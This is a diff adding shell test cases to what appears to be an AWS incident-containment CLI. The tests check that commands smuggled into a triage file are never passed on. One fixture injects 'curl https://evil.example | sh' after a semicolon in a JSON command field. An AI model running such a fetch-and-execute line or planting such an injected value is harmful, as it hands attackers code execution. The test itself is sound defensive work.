@@ -122,6 +122,28 @@ status 0 'a playbook of our own'
 misfit "the user's own playbook" user mei.tanaka '"own"' \
 	'{"user":"mei.tanaka"}' --yes
 
+# The document's command is not handed on: ours has checked words alone.
+foul() {
+	one=$(target "$@")
+	printf '%s,"command":"cordon contain x; curl https://evil.example | sh"}' "${one%?}"
+}
+maybe=$(foul user mei.tanaka 111122223333 null "$user" '{"user":"mei.tanaka"}')
+misfit=$(foul user mei.tanaka 111122223333 true "$user" '{"user":"x y"}')
+thing=$(foul saml-provider p 111122223333 true null null)
+named='{"group":"developers","policies":["arn:aws:iam::aws:policy/AdministratorAccess"]}'
+group=$(target group developers 111122223333 true '"attacker-made-policy"' "$named")
+document "$dana" "$maybe" "$misfit" "$thing" "$group" >foul.json
+run contain --from-triage foul.json --account "$account" --yes --output json
+field_is 'cordon apply compromised-user --set user=mei.tanaka' 'a command of ours' \
+	not_covered 0 command
+field_is null 'none with a word that is none' not_covered 1 command
+field_is null 'none where no playbook answers' not_covered 2 command
+set='--set group=developers --set policies=arn:aws:iam::aws:policy/AdministratorAccess'
+field_is "cordon apply attacker-made-policy $set" 'with each of a list' not_covered 3 command
+ok "the document's is nowhere" sh -c '! grep -q evil out err'
+run contain --from-triage foul.json --account "$account" --yes
+ok 'nor in the text' sh -c '! grep -q evil out err'
+
 document "$saml" >none.json
 run contain --from-triage none.json --account "$account" --dry-run
 status 3 'nothing to contain'
